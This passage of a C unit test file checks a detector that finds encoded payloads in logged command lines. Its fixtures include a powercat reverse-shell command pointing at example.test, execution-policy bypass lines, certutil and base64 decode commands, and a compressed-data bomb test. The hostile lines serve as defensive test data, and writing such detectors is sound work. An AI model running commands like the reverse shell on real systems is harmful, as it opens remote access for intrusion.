    {"no: package", "Microsoft.WindowsTerminal_1.18.3181.0_x64__8wekyb3d8bbwe", ""},
    {"no: fingerprint of a key", "SHA256:uNiVztksCsDhcc0u9e8BgrJXVGDasNeoTzIQH3S4kqE", ""},
    {"no: public key",
     "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILm7Jm0OoXzZzPBn8o2fQJmKcYzL2rIhQWkV1m5fTqXd "
     "alice@example.test",
     ""},
    {"no: option of another program", "grep -e abcdefgh /var/log/messages", ""},
    {"no: option with a path", "robocopy C:\\a D:\\b /e /copyall /r:1", ""},
    {"no: expression", "sed -e s/abcd/efgh/g -e s/AAAA/BBBB/ file", ""},
    {"no: encoding of ffmpeg", "x264.exe -enc preset", ""},
    {"no: execution policy", "powershell -ExecutionPolicy Bypass -File C:\\Scripts\\Backup.ps1",
     ""},
    {"no: ep", "powershell -ep bypass -f C:\\Scripts\\Backup.ps1", ""},
    {"no: picture",
     "data:image/png;iVBORw0KGgqlTcoYJTC7HW0TLN7WI3su2R4/ch/"
     "LGXEXRJTWSTydXDRgvjEgHmn+2qDu6LmZf1x8KZn9r+WTJTzWVK8=",
     ""},
    {"no: noise, bare",
     "pU3KGCUwux1tEyze1iN7LtkeP3IfyxlxF0SU1kk8nVw0YL4xIB5p/tqg7ui5mX9cfCmZ/a/lkyU81lSv", ""},
    {"no: wrong length", "Y3VybCBodHRwOi8vMTkyLjAuMi43L2Euc x", ""},
    {"no: digits", "123456789012345678901234567890123456789012", ""},
    {"no: one letter", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", ""},
    {"no: line of signs", "////////////////////////////////++++++++++++++++", ""},
    {"no: rules", "========================================", ""},
    {"no: certificate without a mark",
     "MIIAPDCCACigAwIBAgIBCQABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f x", ""},
    {"no: signature of a script",
     "# MIIFdgYJKoZIhvcNAQcCoIIFZzCCBWMCAQExCzAJBgUrDgMCGgUAMGkGCisGAQQB\012# "
     "gjcCAQSgWzBZMDQGCisGAQQBgjcCAR4wJgIDAQAABBAfzDtgWUsITrck0sYpfvNR",
     ""},
    {"no: private token", "ghp_16C7e42F292c6912E7710c838347Ae178B4a", ""},
    {"no: session", "JSESSIONID=0000A1B2C3D4E5F6A7B8C9D0E1F2:1a2b3c4d", ""},
    {"no: rights",
     "SeSecurityPrivilege SeBackupPrivilege SeRestorePrivilege SeTakeOwnershipPrivilege", ""},
    {"no: few numbers", "0x90,0x90,0x90,0x90", ""},
    {"no: numbers of colours",
     "0xffffff,0x000000,0xff00ff,0x00ff00,0x0000ff,0xffff00,0x00ffff,0x123456,0x654321,0xabcdef,"
     "0xfedcba,0x111111,0x222222,0x333333,0x444444,0x555555,0x666666",
     ""},
    {"no: mark and nothing", "FromBase64String($x)", ""},
    {"no: mark and a name", "atob(a.b)", ""},
    {"no: decoder of a file", "base64 -d /tmp/payload.txt > /tmp/x", ""},
    {"no: certutil", "certutil -decode C:\\a.txt C:\\a.exe", ""},
    {"no: hexadecimal text",
     "436f64653a20575254575254494330303030303832332043616c6c3a2057525457525449433030303030373734205"
     "04944",
     ""},
    {"no: empty", "", ""},
    {"no: one", "A", ""},
    {"no: padding alone", "====", ""},
    {"no: signature behind # ",
     "# MIIBYDCCACjS5kaS+BlBV/HUr5CYgoXPepr3yT1VUiZq/nDnqubaR2J8LlmvLqN6\015\012# "
     "vIRnCtPE02vAiq0f/464QG4vin/EzOTdnwtBENny+gAlyO/lfzdyT0036isUAEB3\015\012# "
     "E5tBgN85MiSZYsaFcgAFmuuOoXzzeH4O0p0cC2P/1ymDdNm9dPwRrde5ymUDlSJp\015\012# "
     "/WafY3bucYeXN/1fcvjVHErJG20MSNQaHl7J5qA5KFSoYV7vEJ/Bv6niVjcBKI8p\015\012# "
     "s9c/asK2nt0sGfJkvuRipbryD9J+zxTAEe0gH4NjIK25i6sWhqKNmAEhDHc28+7F\015\012# "
     "gNz8Q/5dBJtNeKej67koZchRftAhEfamUto1JIcrajHX/+RYd0TV63g+lpaPib6C\015\012# "
     "hWXgfl99eE6QYKchyoB9djPtEjQC83blvxSWdz0ZYWMmvlvlhQM2s28TvK5IFmiC\015\012# "
     "E2gFp9G+Xp8naBD99yDQM8pPLlM=\015\012# End signature block",
     ""},
    {"no: signature behind '' SIG '' ",
     "'' SIG '' MIIBYDCCACjS5kaS+BlBV/HUr5CYgoXPepr3yT1VUiZq/nDnqubaR2J8LlmvLqN6\015\012'' SIG '' "
     "vIRnCtPE02vAiq0f/464QG4vin/EzOTdnwtBENny+gAlyO/lfzdyT0036isUAEB3\015\012'' SIG '' "
     "E5tBgN85MiSZYsaFcgAFmuuOoXzzeH4O0p0cC2P/1ymDdNm9dPwRrde5ymUDlSJp\015\012'' SIG '' "
     "/WafY3bucYeXN/1fcvjVHErJG20MSNQaHl7J5qA5KFSoYV7vEJ/Bv6niVjcBKI8p\015\012'' SIG '' "
     "s9c/asK2nt0sGfJkvuRipbryD9J+zxTAEe0gH4NjIK25i6sWhqKNmAEhDHc28+7F\015\012'' SIG '' "
     "gNz8Q/5dBJtNeKej67koZchRftAhEfamUto1JIcrajHX/+RYd0TV63g+lpaPib6C\015\012'' SIG '' "
     "hWXgfl99eE6QYKchyoB9djPtEjQC83blvxSWdz0ZYWMmvlvlhQM2s28TvK5IFmiC\015\012'' SIG '' "
     "E2gFp9G+Xp8naBD99yDQM8pPLlM=\015\012'' SIG '' End signature block",
     ""},
    {"no: signature behind // SIG // ",
     "// SIG // MIIBYDCCACjS5kaS+BlBV/HUr5CYgoXPepr3yT1VUiZq/nDnqubaR2J8LlmvLqN6\015\012// SIG // "
     "vIRnCtPE02vAiq0f/464QG4vin/EzOTdnwtBENny+gAlyO/lfzdyT0036isUAEB3\015\012// SIG // "
     "E5tBgN85MiSZYsaFcgAFmuuOoXzzeH4O0p0cC2P/1ymDdNm9dPwRrde5ymUDlSJp\015\012// SIG // "
     "/WafY3bucYeXN/1fcvjVHErJG20MSNQaHl7J5qA5KFSoYV7vEJ/Bv6niVjcBKI8p\015\012// SIG // "
     "s9c/asK2nt0sGfJkvuRipbryD9J+zxTAEe0gH4NjIK25i6sWhqKNmAEhDHc28+7F\015\012// SIG // "
     "gNz8Q/5dBJtNeKej67koZchRftAhEfamUto1JIcrajHX/+RYd0TV63g+lpaPib6C\015\012// SIG // "
     "hWXgfl99eE6QYKchyoB9djPtEjQC83blvxSWdz0ZYWMmvlvlhQM2s28TvK5IFmiC\015\012// SIG // "
     "E2gFp9G+Xp8naBD99yDQM8pPLlM=\015\012// SIG // End signature block",
     ""},
    {"program in a comment",
     "# TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\012# "
     "AAAAAAAAAAAAAAAAQAAAAFBFAAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhsc\012# "
     "HR4fICEiIyQlJidNWgAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\012# "
     "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAABAAAAAUEUAAAECAwQFBgcICQoLDA0ODxAR\012# "
     "EhMUFRYXGBkaGxwdHh8gISIjJCUmJw==\012# end",
     "pe (base64) 214 bytes\012"},
    {"no: option of powercat",
     "powershell -Exec Bypass . C:\\t\\nc.ps1;powercat -c example.test -p 80 -e cmd", ""},
    {"no: name of a variable", "Function Base64Decode(ByVal base64String)", ""},
    {"no: call with a variable", "exec(b64decode(payload))", ""},
    {"secure string",
     "ConvertTo-SecureString "
     "'76492d1116743f0423413b16050a5345MgB8AEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBB"
     "AEEAPQA9AHwAMAAxADIAMwA0ADUANgA3ADgAOQBhAGIAYwBkAGUAZgAwADEAMgAzADQANQA2ADcAOAA5AGEAYgBjAGQAZ"
     "QBmADAAMQAyADMANAA1ADYANwA4ADkAYQBiAGMAZABlAGYAMAAxADIAMwA0ADUANgA3ADgAOQBhAGIAYwBkAGUAZgAwAD"
     "EAMgAzADQANQA2ADcAOAA5AGEAYgBjAGQAZQBmADAAMQAyADMANAA1ADYANwA4ADkAYQBiAGMAZABlAGYAMAAxADIAMwA"
     "0ADUANgA3ADgAOQBhAGIAYwBkAGUAZgAwADEAMgAzADQANQA2ADcAOAA5AGEAYgBjAGQAZQBmAA==' -k (1..16)",
     "text (securestring > utf-16le) "
     "2|AAAAAAAAAAAAAAAAAAAAAA==|"
     "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789abc"
     "def0123456789abcdef0123456789abcdef\012"},
};

static void note(void *context, const kk_payload *p)
{
    kk_buffer *out = context;
    kk_putf(out, "%s%s (%.*s) ", kk_payload_kind_name(p->kind), p->torn ? " torn" : "",
            KK_P(p->chain));
    if (p->text.len)
        kk_put(out, p->text);
    else
        kk_putf(out, "%zu bytes", p->bytes.len);
    kk_put_byte(out, '\n');
}

static void finds(kk_arena *arena, const payload_case *c, kk_slice text)
{
    kk_buffer out = {0};
    kk_arena_reset(arena);
    assert_true(kk_payloads_find(arena, text, note, &out));
    if (!kk_is(kk_buffer_slice(&out), c->found))
        fail_msg("%s: expected\n%sfound\n%.*s", c->name, c->found, KK_P(kk_buffer_slice(&out)));
    kk_buffer_close(&out);
}

static void test_cases(void **state)
{
    (void)state;
    kk_arena *arena = kk_arena_open();
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++)
        finds(arena, &cases[i], kk_cstr(cases[i].text));
    kk_arena_close(arena);
}

/* What the quick look lets pass has nothing in it. */
static void test_suspicion(void **state)
{
    (void)state;
    kk_payload_field fields[KK_PAYLOAD_FIELDS];
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        kk_event event = {0};
        event.text[KK_DATASET] = KK_S("linux.auth");
        event.text[KK_COMMAND_LINE] = kk_cstr(cases[i].text);
        if (*cases[i].found && kk_payload_fields(&event, fields) != 1)
            fail_msg("%s: not suspected", cases[i].name);
        event.text[KK_COMMAND_LINE] = KK_S("systemctl restart sshd.service");
        assert_int_equal(kk_payload_fields(&event, fields), 0);
    }
}

/* Each case cut everywhere, and with bytes turned into others: nothing breaks, and what is told keeps
 * within its limits. */
static void test_harm(void **state)
{
    (void)state;
    uint32_t dice = 20260701;
    kk_arena *arena = kk_arena_open();
    kk_buffer copy = {0}, out = {0};
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        kk_slice text = kk_cstr(cases[i].text);
        for (size_t n = 0; n < 60 && text.len; n++) {
            copy.len = out.len = 0;
            kk_arena_reset(arena);
            dice = dice * 1664525u + 1013904223u;
            kk_put(&copy, n % 2 ? kk_part(text, 0, dice % text.len) : text);
            for (size_t k = 0; k < n / 10 && copy.len; k++) {
                dice = dice * 1664525u + 1013904223u;
                copy.ptr[(dice >> 8) % copy.len] = (char)(dice >> 24);
            }
            assert_true(kk_payloads_find(arena, kk_buffer_slice(&copy), note, &out));
        }
    }
    kk_buffer_close(&out);
    kk_buffer_close(&copy);
    kk_arena_close(arena);
}

typedef struct {
    size_t count, bytes;
    bool bad;
} told;

static void count(void *context, const kk_payload *p)
{
    told *t = context;
    t->count++;
    t->bytes += p->bytes.len;
    t->bad = t->bad || p->number != t->count || p->within >= p->number;
}

/* 64 MiB of the letter A, compressed, in Base64. */
static kk_slice bomb_text(kk_arena *arena)
{
    static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    size_t size = 64 << 20;
    char *plain = kk_take(arena, size);
    memset(plain, 'A', size);
    uLongf len = compressBound(size);
    uint8_t *packed = kk_take(arena, len + 3);
    assert_int_equal(compress2(packed, &len, (const Bytef *)plain, size, 9), Z_OK);
    kk_buffer out = {0};
    kk_put(&out, KK_S("FromBase64String('"));
    for (size_t i = 0; i + 3 <= len; i += 3) {
        uint32_t three = (uint32_t)packed[i] << 16 | (uint32_t)packed[i + 1] << 8 | packed[i + 2];
        for (int shift = 18; shift >= 0; shift -= 6)
            kk_put_byte(&out, digits[three >> shift & 63]);
    }
    kk_put(&out, KK_S("')"));
    kk_slice text = kk_copy(arena, kk_buffer_slice(&out));
    kk_buffer_close(&out);
    return text;
}

/* A thousand payloads, and one that unpacks to sixty-four megabytes: some are told, and that some are
 * left out is told too. */
static void test_limits(void **state)
{
    (void)state;
    kk_arena *arena = kk_arena_open();
    kk_buffer text = {0};
    told t = {0, 0, false};
    for (int i = 0; i < 1000; i++)
        kk_put(&text, KK_S("FromBase64String('bmV0IHVzZXI='); "));
    assert_false(kk_payloads_find(arena, kk_buffer_slice(&text), count, &t));
    assert_int_equal(t.count, KK_PAYLOADS_MOST);
    assert_false(t.bad);
    t = (told){0, 0, false};
    kk_slice bomb = bomb_text(arena);
    assert_false(kk_payloads_find(arena, bomb, count, &t));
    assert_int_equal(t.count, 2);
    assert_true(t.bytes > KK_PAYLOAD_INFLATED && t.bytes < KK_PAYLOAD_INFLATED + bomb.len);
    kk_buffer_close(&text);
    kk_arena_close(arena);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_cases),
        cmocka_unit_test(test_suspicion),
        cmocka_unit_test(test_harm),
        cmocka_unit_test(test_limits),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
